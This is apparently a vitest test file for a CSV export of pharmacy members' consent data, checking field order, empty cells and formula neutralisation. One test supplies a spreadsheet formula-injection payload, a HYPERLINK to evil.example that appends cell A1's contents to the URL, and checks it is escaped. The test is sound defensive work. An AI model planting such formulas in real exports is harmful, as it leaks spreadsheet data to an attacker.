import { describe, expect, it } from 'vitest';
import { CSV_BOM } from './csv';
import { type ThirdPartyExportRow, thirdPartyExportCsv } from './third-party-export';

const row: ThirdPartyExportRow = {
  salutation: 'FE',
  firstName: 'Anna',
  lastName: 'Schmidt',
  email: 'anna@example.de',
  job: 'PHP',
  workplaceName: 'Linden-Apotheke',
  workplaceStreet: 'Hauptstraße 1',
  workplaceZip: '10115',
  workplaceCity: 'Berlin',
  givenAt: new Date('2026-11-01T09:30:00Z'),
  textVersion: 2,
};

describe('thirdPartyExportCsv', () => {
  it('writes only the chosen fields in their order, then the consent time and text version', () => {
    const csv = thirdPartyExportCsv(['lastName', 'salutation', 'job', 'workplaceZip'], [row]);
    expect(csv.split('\r\n')).toEqual([
      `${CSV_BOM}Nachname;Anrede;Beruf;PLZ der Arbeitsstätte;Einwilligung am;Version Einwilligungstext`,
      'Schmidt;Frau;Apothekerin in einer öffentlichen Apotheke;10115;2026-11-01T09:30:00.000Z;2',
      '',
    ]);
  });

  it('leaves cells of members without job or workplace empty', () => {
    const csv = thirdPartyExportCsv(['job', 'workplaceCity'], [{ ...row, job: null, workplaceCity: null }]);
    expect(csv.split('\r\n')[1]).toBe(';;2026-11-01T09:30:00.000Z;2');
  });

  it('neutralises a formula a member typed into a name or the workplace', () => {
    const csv = thirdPartyExportCsv(
      ['firstName', 'workplaceName'],
      [{ ...row, firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Details")', workplaceName: '@SUM(A1)' }],
    );
    expect(csv.split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Details"")";'@SUM(A1);2026-11-01T09:30:00.000Z;2`,
    );
  });
});
